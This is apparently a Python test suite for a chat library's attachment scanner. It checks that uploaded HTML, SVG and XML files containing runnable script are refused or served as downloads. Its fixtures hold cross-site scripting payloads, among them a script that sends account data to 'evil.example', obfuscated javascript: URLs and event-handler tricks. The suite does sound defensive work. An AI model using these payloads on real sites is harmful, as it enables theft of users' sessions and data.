"""Attachments a browser would run are found in the bytes and refused (or made downloads)."""

from __future__ import annotations

from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from chatkit import AsyncChatKit, Author, ChatKitSettings
from chatkit.blobs import LocalBlobStore, MemoryBlobStore
from chatkit.errors import ActiveContentError, AttachmentTypeError
from chatkit.media import ActiveContentScanner, find_active_content, http_headers, sniff
from chatkit.models import Attachment, AttachmentKind, Conversation

pytestmark = pytest.mark.anyio

HTML_AS_TEXT = (
    b"<!DOCTYPE html>\n<html><head><title>Meeting notes</title></head>\n"
    b"<body><p>Agenda</p><script>fetch('/api/me').then(r => r.text()).then(t =>"
    b" new Image().src = 'https://evil.example/?' + t)</script></body></html>\n"
)
SVG_ONLOAD = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" '
    b"onload=\"alert(document.domain)\"><rect width='10' height='10'/></svg>"
)
SVG_SCRIPT = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10">\n'
    b'  <circle cx="5" cy="5" r="4"/>\n'
    b"  <script type=\"text/javascript\">alert('x')</script>\n"
    b"</svg>\n"
)
SVG_BENIGN = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n'
    b"<!-- Created with Inkscape (http://www.inkscape.org/) -->\n"
    b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
    b'"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
    b'width="24" height="24" viewBox="0 0 24 24">\n'
    b"  <title>Parcel</title><metadata>drawn for the help centre</metadata>\n"
    b"  <style>.box { fill: #c60; stroke: #333; }</style>\n"
    b'  <path class="box" d="M2 6l10-4 10 4v12l-10 4-10-4z"/>\n'
    b'  <image width="4" height="4" xlink:href="data:image/png;base64,iVBORw0KGgo="/>\n'
    b'  <a href="https://example.com/help"><text x="2" y="22">help</text></a>\n'
    b"</svg>\n"
)
PLAIN = (
    "Order 245-12784: the parcel <3 arrived, but a < b and c > d in the invoice.\n"
    "metadata: none. Teşekkürler!\n"
).encode()


async def _setup(kit: AsyncChatKit) -> tuple[Author, Conversation]:
    inbound = await kit.messages.receive(channel="web", sender="visitor-1", text="hi")
    return Author.customer(inbound.contact.id), inbound.conversation


def _blob_files(kit: AsyncChatKit) -> list[str]:
    blobs = kit.blobs
    if isinstance(blobs, LocalBlobStore):
        if not blobs.root.exists():
            return []
        return sorted(str(p) for p in blobs.root.rglob("*") if p.is_file())
    assert isinstance(blobs, MemoryBlobStore)
    return sorted(blobs._blobs)


async def _state(kit: AsyncChatKit, conv: Conversation) -> tuple[object, ...]:
    events = (await kit.events.list(limit=1000)).items
    return (
        _blob_files(kit),
        await kit.store.find(Attachment, {"conversation_id": conv.id}),
        [event.id for event in events],
        await kit.conversations.get(conv.id),
    )


@pytest.mark.parametrize(
    ("content", "name", "mime_type", "reason"),
    [
        (HTML_AS_TEXT, "notes.txt", "text/html", "an HTML document"),
        (SVG_ONLOAD, "logo.svg", "image/svg+xml", "an event handler attribute (onload)"),
        (SVG_SCRIPT, "chart.svg", "image/svg+xml", "a <script> element"),
    ],
    ids=["html-as-txt", "svg-onload", "svg-script"],
)
async def test_active_content_is_refused_and_nothing_changes(
    kit: AsyncChatKit, content: bytes, name: str, mime_type: str, reason: str
) -> None:
    who, conv = await _setup(kit)
    before = await _state(kit, conv)
    with pytest.raises(ActiveContentError) as caught:
        await kit.attachments.upload(conv.id, content, name=name, author=who)
    error = caught.value
    assert isinstance(error, AttachmentTypeError)
    assert error.mime_type == mime_type
    assert reason in error.reason
    assert str(error).startswith("attachment refused: ")
    assert "\n" not in str(error)
    assert await _state(kit, conv) == before


async def test_a_script_past_the_sniffed_window_is_found_and_its_bytes_dropped(
    kit: AsyncChatKit,
) -> None:
    who, conv = await _setup(kit)
    before = await _state(kit, conv)
    path = b'<path d="' + b"M0 0 L1 1 " * 20_000 + b'"/>'  # 200 kB, past the 64 KiB head

    async def chunks() -> AsyncIterator[bytes]:
        yield b'<svg xmlns="http://www.w3.org/2000/svg">'
        for start in range(0, len(path), 7_000):  # chunk boundaries fall anywhere
            yield path[start : start + 7_000]
        yield b"<rect width='1' height='1' on"
        yield b'click="steal()"/></svg>'

    with pytest.raises(ActiveContentError) as caught:
        await kit.attachments.upload(conv.id, chunks(), name="map.svg", author=who)
    assert caught.value.reason == "an SVG image with an event handler attribute (onclick)"
    assert await _state(kit, conv) == before


async def test_benign_svg_and_plain_text_are_still_accepted(kit: AsyncChatKit) -> None:
    who, conv = await _setup(kit)
    svg = await kit.attachments.upload(conv.id, SVG_BENIGN, name="parcel.svg", author=who)
    text = await kit.attachments.upload(conv.id, PLAIN, name="notes.txt", author=who)
    assert (svg.mime_type, svg.kind) == ("image/svg+xml", AttachmentKind.IMAGE)
    assert (text.mime_type, text.kind) == ("text/plain", AttachmentKind.FILE)
    assert await kit.attachments.read(svg.id) == SVG_BENIGN
    assert await kit.attachments.read(text.id) == PLAIN
    message = await kit.messages.send(conv.id, "", author=who, attachments=[svg.id, text.id])
    assert [a.mime_type for a in message.attachments] == ["image/svg+xml", "text/plain"]


async def test_download_mode_stores_active_content_as_octet_stream(
    store_url: str, tmp_path: Path
) -> None:
    settings = ChatKitSettings(
        attachments={"active_content": "download", "allowed_types": ("image/*", "text/html")}  # type: ignore[arg-type]
    )
    blobs = LocalBlobStore(tmp_path / "blobs")
    async with AsyncChatKit(store_url, settings=settings, blobs=blobs) as kit:
        who, conv = await _setup(kit)
        svg = await kit.attachments.upload(conv.id, SVG_ONLOAD, name="logo.svg", author=who)
        page = await kit.attachments.upload(conv.id, HTML_AS_TEXT, name="notes.txt", author=who)
        benign = await kit.attachments.upload(conv.id, SVG_BENIGN, name="ok.svg", author=who)
        for stored, content in ((svg, SVG_ONLOAD), (page, HTML_AS_TEXT)):
            assert stored.mime_type == "application/octet-stream"
            assert stored.kind is AttachmentKind.FILE
            assert (stored.width, stored.height) == (None, None)
            assert await kit.attachments.read(stored.id) == content
            headers = http_headers(stored)
            assert headers["Content-Type"] == "application/octet-stream"
            assert headers["Content-Disposition"].startswith("attachment;")
        assert benign.mime_type == "image/svg+xml"  # nothing active: its real type

        # Found only while streaming: stored as a download all the same.
        late = SVG_BENIGN.replace(b"</svg>", b"<!--" + b"x" * 70_000 + b"--><script/></svg>")
        streamed = await kit.attachments.upload(conv.id, late, name="late.svg", author=who)
        assert streamed.mime_type == "application/octet-stream"
        assert await kit.attachments.read(streamed.id) == late


async def test_download_mode_still_honours_allowed_types(kit: AsyncChatKit) -> None:
    settings = ChatKitSettings(attachments={"active_content": "download"})  # type: ignore[arg-type]
    async with AsyncChatKit("memory://", settings=settings) as strict:
        who, conv = await _setup(strict)
        with pytest.raises(AttachmentTypeError) as caught:
            await strict.attachments.upload(conv.id, HTML_AS_TEXT, name="n.txt", author=who)
        assert not isinstance(caught.value, ActiveContentError)
        assert caught.value.mime_type == "text/html"
        assert _blob_files(strict) == []


@pytest.mark.parametrize(
    ("content", "mime_type", "active"),
    [
        (HTML_AS_TEXT, "text/html", "an HTML document"),
        (b"\xef\xbb\xbf  \n<html><body>hi</body></html>", "text/html", "an HTML document"),
        (b"<p>hello</p>", "text/html", "an HTML document"),
        (b"<!-- a comment -->\n<div>hi</div>", "text/html", "an HTML document"),
        (b"Dear team,\n<script>alert(1)</script>", "text/html", "an HTML document"),
        (b'Hi <img src=x onerror="alert(1)">', "text/html", "an HTML document"),
        (SVG_ONLOAD, "image/svg+xml", "an SVG image with an event handler attribute (onload)"),
        (SVG_SCRIPT, "image/svg+xml", "an SVG image with a <script> element"),
        (
            b'<svg xmlns="http://www.w3.org/2000/svg"><svg:script xmlns:svg="x"/></svg>',
            "image/svg+xml",
            "an SVG image with a <script> element",
        ),
        (
            b'<svg xmlns="http://www.w3.org/2000/svg"><a href="JaVaScRiPt:alert(1)">x</a></svg>',
            "image/svg+xml",
            "an SVG image with a javascript: URL",
        ),
        (
            b'<svg xmlns="http://www.w3.org/2000/svg"><a href="&#x6A;ava&#x09;script&#58;'
            b'alert(1)">x</a></svg>',
            "image/svg+xml",
            "an SVG image with a javascript: URL",
        ),
        (
            b'<svg xmlns="http://www.w3.org/2000/svg"><animate attributeName="href" '
            b'values="java\nscript:alert(1)"/></svg>',
            "image/svg+xml",
            "an SVG image with a javascript: URL",
        ),
        (
            b'<svg xmlns="http://www.w3.org/2000/svg"><use href="data:image/svg+xml;base64,'
            b'PHN2Zz48L3N2Zz4=#x"/></svg>',
            "image/svg+xml",
            "an SVG image with a data: URL that is not a plain image",
        ),
        (
            b'<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body '
            b'xmlns="http://www.w3.org/1999/xhtml"><form action="/x"/></body></foreignObject>'
            b"</svg>",
            "image/svg+xml",
            "an SVG image with an <foreignobject> element",
        ),
        (
            b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY js "javascript">]>'
            b'<svg xmlns="http://www.w3.org/2000/svg"><a href="&js;:alert(1)"/></svg>',
            "image/svg+xml",
            "an SVG image with an entity declaration",
        ),
        (
            b'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#x"?><order/>',
            "application/xml",
            "an XML document with an xml-stylesheet instruction",
        ),
        (
            b'<?xml version="1.0"?><order xmlns:h="http://www.w3.org/1999/xhtml">'
            b"<h:iframe/></order>",
            "application/xml",
            "an XML document with an <iframe> element",
        ),
        (
            b'<?xml version="1.0"?><note xmlns:h="http://www.w3.org/1999/xhtml"><h:b>x</h:b>'
            b"</note>",
            "application/xml",
            "an XML document with HTML inside it (the XHTML namespace)",
        ),
        (
            b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"/>',
            "application/xhtml+xml",
            "an XHTML document",
        ),
        (SVG_BENIGN, "image/svg+xml", None),
        (b'<?xml version="1.0"?><order id="7"><line>Mug</line></order>', "application/xml", None),
        (PLAIN, "text/plain", None),
        (b"<3 thanks! ->  <- arrows", "text/plain", None),
        (b"x" * 2000 + b"<script>alert(1)</script>", "text/plain", None),
    ],
)
def test_sniff_flags_what_a_browser_would_run(
    content: bytes, mime_type: str, active: str | None
) -> None:
    found = sniff(content)
    assert (found.mime_type, found.active) == (mime_type, active)


def test_the_scanner_finds_what_a_chunk_boundary_cuts() -> None:
    document = b'<svg xmlns="http://www.w3.org/2000/svg">' + b" " * 5000 + b"<a href='javas"
    rest = b"cript:alert(1)'/></svg>"
    for cut in range(len(document) - 20, len(document) + len(rest)):
        data = document + rest
        scanner = ActiveContentScanner("image/svg+xml")
        found = [scanner.feed(data[:cut]), scanner.feed(data[cut:], final=True)]
        assert "an SVG image with a javascript: URL" in found, cut
    benign = ActiveContentScanner()
    assert benign.feed(SVG_BENIGN[:100]) is None
    assert benign.feed(SVG_BENIGN[100:], final=True) is None
    assert (
        find_active_content("<svg onmouseover = 'x'>") == "an event handler attribute (onmouseover)"
    )


def test_http_headers_force_a_download_for_what_is_not_plainly_inline() -> None:
    class Stored:
        def __init__(self, mime_type: str, name: str) -> None:
            self.mime_type, self.name = mime_type, name

    photo = http_headers(Stored("image/png", "Foto ağustos.png"))
    assert photo["Content-Disposition"] == (
        "inline; filename=\"Foto a_ustos.png\"; filename*=UTF-8''Foto%20a%C4%9Fustos.png"
    )
    assert photo["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in photo["Content-Security-Policy"]
    assert http_headers(Stored("text/plain", "n.txt"))["Content-Type"] == (
        "text/plain; charset=utf-8"
    )
    for mime_type in ("image/svg+xml", "application/octet-stream", "application/xml"):
        assert http_headers(Stored(mime_type, "x"))["Content-Disposition"].startswith("attachment;")
